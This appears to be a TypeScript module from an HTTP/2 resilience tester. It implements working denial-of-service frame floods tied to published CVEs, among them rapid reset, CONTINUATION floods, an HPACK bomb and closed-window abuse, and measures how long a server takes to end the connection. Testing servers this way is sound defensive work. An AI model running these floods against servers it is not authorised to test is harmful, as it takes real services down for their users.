/**
 * Attacks on HTTP/2: what the CVEs of the last years describe, from rapid reset to answers behind a closed window. Each
 * is frames without end on one connection; what counts is after how many of them the server ends it, and what it cost by then.
 */
import type { Target } from '../target/target.ts';
import { Wire } from '../wire/wire.ts';
import * as h2 from './frames.ts';

export interface H2Target {
  readonly target: Target;
  /** Answers to it come later than the frames behind it where the server has such a path, and those to `hung` never. */
  readonly late: string;
  readonly hung: string;
  /** Answers with more bytes than there are frames. */
  readonly long: string;
}

export interface H2Attack {
  readonly name: string;
  readonly id: string;
  /** Where it was published. */
  readonly known: string;
  /** What the client sets: identifier and value, one after the other. */
  readonly settings?: readonly number[];
  readonly before?: (target: H2Target) => Uint8Array;
  readonly frames: (n: number, target: H2Target) => Uint8Array;
  readonly count?: number;
}

export interface H2Outcome {
  /** So many were sent until the end; Infinity where the server did not end it. */
  readonly frames: number;
  /** So many were sent in all. */
  readonly sent: number;
  readonly seconds: number;
  /** What GOAWAY said; undefined where none came. */
  readonly code: number | undefined;
  readonly wire: Wire;
}

export const FRAMES = 20_000;
const BATCH = 50;
const WINDOW_MAX = 2 ** 31 - 1;
const CLOSED_WINDOWS = [h2.INITIAL_WINDOW_SIZE, 0];
const END_ALL = h2.END_HEADERS | h2.END_STREAM;

const idOf = (n: number): number => 2 * n + 1;
const ask = (method: string, path: string, { target }: H2Target): Uint8Array =>
  h2.request(method, path, target.authority);
const get = (n: number, path: string, at: H2Target): Uint8Array => h2.headers(idOf(n), ask('GET', path, at));
const openUpload = (at: H2Target): Uint8Array => h2.headers(1, ask('POST', at.hung, at), false);
const openBlock = (at: H2Target): Uint8Array => h2.frame(h2.FRAME.headers, 0, 1, ask('GET', at.hung, at));
const data = (size: number): Uint8Array => h2.frame(h2.FRAME.data, 0, 1, new Uint8Array(size));
const MANY_FIELDS = h2.block(Array.from({ length: 100 }, (_, n) => [`x-${n}`, 'y'.repeat(100)] as const));

export const H2_ATTACKS: readonly H2Attack[] = [
  {
    ...{ name: 'rapid reset', id: 'rapid-reset', known: 'CVE-2023-44487' },
    frames: (n, at) => h2.joined(get(n, at.late, at), h2.reset(idOf(n))),
  },
  {
    ...{ name: 'made you reset, by WINDOW_UPDATE of 0', id: 'reset-by-zero', known: 'CVE-2025-8671' },
    frames: (n, at) => h2.joined(get(n, at.late, at), h2.windowUpdate(idOf(n), 0)),
  },
  {
    ...{
      name: 'made you reset, by a window that overflows',
      id: 'reset-by-overflow',
      known: 'CVE-2025-8671',
    },
    frames: (n, at) => h2.joined(get(n, at.late, at), h2.windowUpdate(idOf(n), WINDOW_MAX)),
  },
  {
    ...{ name: 'CONTINUATION with fields', id: 'continuation', known: 'CVE-2024-27316' },
    before: openBlock,
    frames: () => h2.frame(h2.FRAME.continuation, 0, 1, MANY_FIELDS),
  },
  {
    ...{ name: 'empty CONTINUATION', id: 'empty-continuation', known: 'CVE-2024-28182' },
    before: openBlock,
    frames: () => h2.frame(h2.FRAME.continuation, 0, 1),
  },
  {
    ...{ name: 'SETTINGS', id: 'settings', known: 'CVE-2019-9515' },
    frames: (n) => h2.settings(h2.INITIAL_WINDOW_SIZE, n),
  },
  { ...{ name: 'PING', id: 'ping', known: 'CVE-2019-9512' }, frames: () => h2.PING },
  {
    ...{ name: 'empty DATA', id: 'empty-data', known: 'CVE-2019-9518' },
    before: openUpload,
    frames: () => data(0),
  },
  {
    ...{ name: 'DATA of one byte that nobody reads', id: 'tiny-data', known: 'RFC 9113 §10.5' },
    ...{ before: openUpload, frames: () => data(1) },
  },
  {
    ...{ name: 'PRIORITY churn', id: 'priority', known: 'CVE-2019-9513' },
    frames: (n) => h2.frame(h2.FRAME.priority, 0, idOf(n), h2.joined(h2.uint32(0), Uint8Array.of(n))),
  },
  {
    ...{ name: 'an HPACK bomb behind a closed window', id: 'field-bomb', known: 'CVE-2026-49975' },
    ...{ settings: CLOSED_WINDOWS, count: 100 },
    // An entry of nearly 4 KiB, and then 15,000 references of one byte.
    before: (at) =>
      h2.frame(
        h2.FRAME.headers,
        END_ALL,
        1,
        h2.joined(
          ask('GET', at.late, at),
          Uint8Array.of(0x40, 1, 0x61, 0x7f, 0xa1, 0x1e),
          new Uint8Array(4000).fill(0x62),
        ),
      ),
    frames: (n, at) =>
      h2.frame(
        h2.FRAME.headers,
        END_ALL,
        idOf(n + 1),
        h2.joined(ask('GET', at.late, at), new Uint8Array(15_000).fill(0x80 | 62)),
      ),
  },
  {
    ...{ name: 'requests behind a closed window', id: 'closed-window', known: 'CVE-2019-9517' },
    ...{ settings: CLOSED_WINDOWS, count: 100 },
    frames: (n, at) => get(n, at.target.paths.small, at),
  },
  {
    ...{ name: 'a window that opens byte by byte', id: 'byte-windows', known: 'CVE-2019-9511' },
    settings: CLOSED_WINDOWS,
    before: (at) => get(0, at.long, at),
    frames: () => h2.windowUpdate(1, 1),
  },
];

/** A connection whose preface and settings have been sent. */
function openH2(target: Target, settings: readonly number[] = []): { wire: Wire; watch: h2.FrameWatch } {
  const watch = new h2.FrameWatch();
  const wire = new Wire(target, { alpn: 'h2', onBytes: watch.feed });
  wire.write(h2.beginning(...settings));
  return { wire, watch };
}

/** Whether the server answers a client that begins with HTTP/2. */
export async function speaksH2(target: Target, timeoutMs: number): Promise<boolean> {
  const { wire, watch } = openH2(target);
  await wire.until(() => watch.counts.has(h2.FRAME.settings) || wire.isEnded, timeoutMs);
  wire.destroy();
  return watch.counts.has(h2.FRAME.settings);
}

/**
 * @param waitMs for the end, when all frames have been sent
 * @param sendMs no further frames are sent after that time
 */
export async function attackH2(
  at: H2Target,
  { settings, before, frames, count = FRAMES }: H2Attack,
  { waitMs, sendMs = Number.POSITIVE_INFINITY }: { readonly waitMs: number; readonly sendMs?: number },
): Promise<H2Outcome> {
  const { wire, watch } = openH2(at.target, settings);
  const isOver = (): boolean => wire.isEnded;
  if (before !== undefined) wire.write(before(at));
  let sent = 0;
  // The server has time to read each batch. It may lag behind all the same: a PING would tell, and be an attack of its own.
  for (; sent < count && !isOver() && wire.nowMs < sendMs; sent += BATCH) {
    wire.write(
      h2.joined(...Array.from({ length: Math.min(BATCH, count - sent) }, (_, n) => frames(sent + n, at))),
    );
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  await wire.until(isOver, waitMs);
  wire.destroy();
  return {
    frames: isOver() ? sent : Number.POSITIVE_INFINITY,
    ...{ sent, seconds: (wire.endedAtMs ?? wire.nowMs) / 1000, code: watch.goAwayCode, wire },
  };
}
